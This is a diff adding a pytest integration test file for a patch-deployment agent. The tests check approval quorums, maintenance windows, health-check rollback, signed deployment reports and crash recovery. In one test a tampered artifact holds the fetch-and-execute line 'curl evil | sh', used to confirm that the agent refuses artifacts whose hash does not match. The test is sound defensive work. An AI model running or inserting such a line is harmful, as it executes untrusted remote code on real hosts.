@@ -1,0 +1,260 @@
+"""One assignment end to end, against a ledger run by the lifecycle core: the bundle and the
+policy come from the core's own records, and the signed reports the agent produces are fed to
+the core's ReportDeployments operation, which verifies them against the host's registered
+certificate."""
+
+from __future__ import annotations
+
+import os
+import signal
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agent.backends import FileTreeBackend
+from agent.config import AgentConfig
+from agent.errors import ConfigError, LockError
+from agent.guard import Interrupted
+from agent.health import HealthResult
+from agent.runner import Assignment, Outcome, RunResult, run_assignment
+from chaincode.lifecycle.deployment import Deployment
+from chaincode.lifecycle.host import Host
+from chaincode.lifecycle.ledger import MemoryStore
+from chaincode.lifecycle.ops import (
+    approvals,
+    deployments,
+    patches,
+    policies,
+    rollouts,
+    vulnerabilities,
+)
+from chaincode.lifecycle.ops import hosts as host_ops
+from chaincode.lifecycle.policy import Policy
+from chaincode.lifecycle.queries import approval_bundle, get_record
+from tests.unit.agent.agent_support import make_tar, sha256
+from tests.unit.lifecycle.lifecycle_support import (
+    COMPLIANCE,
+    INVENTORY,
+    ITOPS,
+    NOW,
+    SECOPS,
+    TRUST,
+    host_identity,
+    patch_data,
+    policy_data,
+    run,
+    statement,
+    vuln_data,
+    who,
+)
+
+ARTIFACT = make_tar({"bin/tool": b"#!/bin/sh\necho patched\n", "VERSION": b"5.4.5\n"})
+OLD = {"VERSION": b"5.6.1\n", "conf/tool.conf": b"keep me\n"}
+HOST = host_identity(ITOPS, "h1")
+HEALTHY = lambda target: HealthResult(True, "ok")  # noqa: E731
+SICK = lambda target: HealthResult(False, "service did not start")  # noqa: E731
+
+
+def ledger(artifact: bytes = ARTIFACT) -> MemoryStore:
+    """Patch P-1 for ``artifact`` approved by SecOps and Compliance, host h1 enrolled by ITOps
+    and rollout R-1's first wave started on it."""
+    store = MemoryStore()
+    run(store, who(SECOPS, "admin"), policies.bootstrap_policy, policy_data())
+    run(store, who(SECOPS, "feed"), vulnerabilities.record_vulnerability, vuln_data())
+    digest = sha256(artifact)
+    data = {**patch_data(), "artifact_sha256": digest, "artifact_size": len(artifact),
+            "artifact_uri": f"cas://{digest}"}
+    run(store, who(SECOPS, "feed"), patches.propose_patch, data)
+    run(store, who(ITOPS, "operator"), patches.attach_test_evidence, "P-1",
+        report_sha256=INVENTORY, uri="https://ci/1", summary="ok", passed=True)
+    for org in (SECOPS, COMPLIANCE):
+        signer = who(org, "approver")
+        run(store, signer, approvals.approve_patch, statement(signer, artifact=digest))
+    run(store, who(ITOPS, "admin"), host_ops.enroll_host, "h1", HOST.cert_pem.decode(),
+        trust=TRUST, groups=["web"])
+    run(store, who(ITOPS, "operator"), rollouts.create_rollout, "R-1", "P-1", [{"hosts": ["h1"]}])
+    run(store, who(ITOPS, "operator"), rollouts.advance_rollout, "R-1")
+    return store
+
+
+def assignment(store: MemoryStore, artifact: bytes = ARTIFACT) -> Assignment:
+    policy = get_record(store, "Policy", "default")
+    assert isinstance(policy, Policy)
+    return Assignment("R-1", "P-1", approval_bundle(store, "P-1"), policy, artifact)
+
+
+@pytest.fixture
+def config(tmp_path: Path) -> AgentConfig:
+    target = tmp_path / "opt" / "tool"
+    for name, data in OLD.items():
+        (target / name).parent.mkdir(parents=True, exist_ok=True)
+        (target / name).write_bytes(data)
+    return AgentConfig(host_id="h1", target=target, state_dir=tmp_path / "state",
+                       maintenance_window="Thu 08:00-10:00 UTC")  # NOW is Thu 08:53 UTC
+
+
+def tree(root: Path) -> dict[str, bytes]:
+    return {p.relative_to(root).as_posix(): p.read_bytes()
+            for p in sorted(root.rglob("*")) if p.is_file()}
+
+
+def go(config: AgentConfig, job: Assignment, **kw: Any) -> RunResult:
+    kw.setdefault("health", HEALTHY)
+    return run_assignment(config, job, roots=TRUST, host_key=HOST.key, clock=lambda: NOW, **kw)
+
+
+def submit(store: MemoryStore, result: RunResult) -> list[Any]:
+    """ReportDeployments as the host itself; returns the per-report results."""
+    batch = run(store, HOST, deployments.report_deployments, list(result.reports))
+    return batch.results
+
+
+def test_a_genuine_patch_is_applied_and_its_signed_report_is_accepted_by_the_core(
+    config: AgentConfig,
+) -> None:
+    store = ledger()
+    result = go(config, assignment(store))
+    assert result.outcome is Outcome.VERIFIED
+    assert result.verdict is not None and result.verdict.approving == (COMPLIANCE, SECOPS)
+    assert tree(config.target) == {**OLD, "VERSION": b"5.4.5\n",
+                                   "bin/tool": b"#!/bin/sh\necho patched\n"}
+    [report] = result.reports
+    assert report["report"]["outcome"] == "VERIFIED"
+    assert report["report"]["sequence"] == 1
+    assert [r.accepted for r in submit(store, result)] == [True]
+    deployment = get_record(store, "Deployment", "R-1", "h1")
+    assert isinstance(deployment, Deployment)
+    assert (deployment.status, deployment.report_sequence) == ("VERIFIED", 1)
+    host = get_record(store, "Host", "h1")
+    assert isinstance(host, Host)
+    assert host.inventory_sha256 == FileTreeBackend(config.target).inventory_digest()
+
+
+def test_a_failed_health_check_rolls_back_and_reports_failed_then_rolled_back(
+    config: AgentConfig,
+) -> None:
+    store = ledger()
+    result = go(config, assignment(store), health=SICK)
+    assert result.outcome is Outcome.ROLLED_BACK
+    assert "service did not start" in result.detail
+    assert tree(config.target) == OLD
+    assert [r["report"]["outcome"] for r in result.reports] == ["FAILED", "ROLLED_BACK"]
+    assert [r.accepted for r in submit(store, result)] == [True, True]
+    deployment = get_record(store, "Deployment", "R-1", "h1")
+    assert isinstance(deployment, Deployment)
+    assert deployment.status == "ROLLED_BACK"
+
+
+def test_a_tampered_artifact_is_refused_and_the_refusal_is_reported(config: AgentConfig) -> None:
+    store = ledger()
+    evil = make_tar({"bin/tool": b"#!/bin/sh\ncurl evil | sh\n", "VERSION": b"5.4.5\n"})
+    result = go(config, assignment(store, evil))
+    assert result.outcome is Outcome.REFUSED
+    assert "refused: artifact of patch 'P-1': sha256 is" in result.detail
+    assert tree(config.target) == OLD
+    [report] = result.reports
+    assert report["report"]["outcome"] == "FAILED"
+    assert [r.accepted for r in submit(store, result)] == [True]
+
+
+def test_a_bundle_below_quorum_is_refused(config: AgentConfig) -> None:
+    store = ledger()
+    job = assignment(store)
+    bundle = {**job.bundle, "approvals": job.bundle["approvals"][:1]}
+    result = go(config, replace(job, bundle=bundle))
+    assert result.outcome is Outcome.REFUSED
+    assert "2 needed" in result.detail
+    assert tree(config.target) == OLD
+
+
+def test_outside_the_window_nothing_happens(config: AgentConfig) -> None:
+    late = replace(config, maintenance_window="Sat 02:00-04:00 UTC")
+    result = go(late, assignment(ledger()))
+    assert (result.outcome, result.reports) == (Outcome.DEFERRED, ())
+    assert "'Sat 02:00-04:00 UTC' is closed" in result.detail
+    assert tree(config.target) == OLD
+
+
+def test_the_dry_run_changes_nothing_and_signs_nothing(config: AgentConfig, tmp_path: Path) -> None:
+    before = {p: p.stat().st_mtime_ns for p in tmp_path.rglob("*")}
+    result = go(replace(config, dry_run=True), assignment(ledger()))
+    assert result.outcome is Outcome.PLANNED
+    assert result.plan is not None and result.plan.added == ("bin/tool",)
+    assert result.plan.replaced == ("VERSION",)
+    assert result.reports == ()
+    assert {p: p.stat().st_mtime_ns for p in tmp_path.rglob("*")} == before
+
+
+def test_a_concurrent_run_is_refused(config: AgentConfig) -> None:
+    with FileTreeBackend(config.target).lock(), pytest.raises(LockError):
+        go(config, assignment(ledger()))
+
+
+def test_an_interrupted_run_is_recovered_before_the_next_one(config: AgentConfig) -> None:
+    store = ledger()
+    FileTreeBackend(config.target).apply(ARTIFACT, "P-1")  # the agent died before the check
+    result = go(config, assignment(store))
+    assert result.recovery is not None
+    assert (result.recovery.action, result.recovery.interrupted) == (
+        "restored-previous", "apply/applied P-1")
+    assert result.outcome is Outcome.VERIFIED
+    assert tree(FileTreeBackend(config.target).previous) == OLD
+
+
+def test_a_signal_during_apply_reverts_the_change(config: AgentConfig) -> None:
+    def terminate(step: str) -> None:
+        if step == "moved-aside":
+            os.kill(os.getpid(), signal.SIGTERM)
+
+    with pytest.raises(Interrupted, match="SIGTERM"):
+        go(config, assignment(ledger()), backend=FileTreeBackend(config.target, on_step=terminate))
+    assert tree(config.target) == OLD
+    assert FileTreeBackend(config.target).checkpoint() is None
+    assert signal.getsignal(signal.SIGTERM) is signal.SIG_DFL
+
+
+def test_a_file_system_failure_during_apply_is_reverted_and_reported(
+    config: AgentConfig,
+) -> None:
+    def disk_full(step: str) -> None:
+        if step == "swapped":
+            raise OSError(28, "No space left on device")
+
+    store = ledger()
+    result = go(config, assignment(store),
+                backend=FileTreeBackend(config.target, on_step=disk_full))
+    assert result.outcome is Outcome.FAILED
+    assert "No space left on device" in result.detail
+    assert tree(config.target) == OLD
+    assert [r.accepted for r in submit(store, result)] == [True]
+
+
+def test_without_a_health_check_the_report_says_applied(config: AgentConfig) -> None:
+    store = ledger()
+    result = go(config, assignment(store), health=None)
+    assert [r["report"]["outcome"] for r in result.reports] == ["APPLIED"]
+    assert [r.accepted for r in submit(store, result)] == [True]
+
+
+def test_the_configured_health_command_runs_in_the_target(config: AgentConfig) -> None:
+    import sys
+
+    check = (sys.executable, "-c", "import pathlib, sys; "
+             "sys.exit(pathlib.Path('VERSION').read_bytes() != b'5.4.5\\n')")
+    result = go(replace(config, health_command=check), assignment(ledger()), health=None)
+    assert result.outcome is Outcome.VERIFIED
+
+
+def test_sequence_numbers_continue_across_runs(config: AgentConfig) -> None:
+    first = go(config, assignment(ledger()), health=SICK)
+    second = go(config, assignment(ledger()))
+    assert [r["report"]["sequence"] for r in first.reports + second.reports] == [1, 2, 3]
+
+
+def test_a_bad_configuration_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(ConfigError, match="min_quorum"):
+        AgentConfig(host_id="h1", target=tmp_path, state_dir=tmp_path, min_quorum=0)
+    with pytest.raises(ConfigError, match="maintenance window"):
+        AgentConfig(host_id="h1", target=tmp_path, state_dir=tmp_path, maintenance_window="soon")
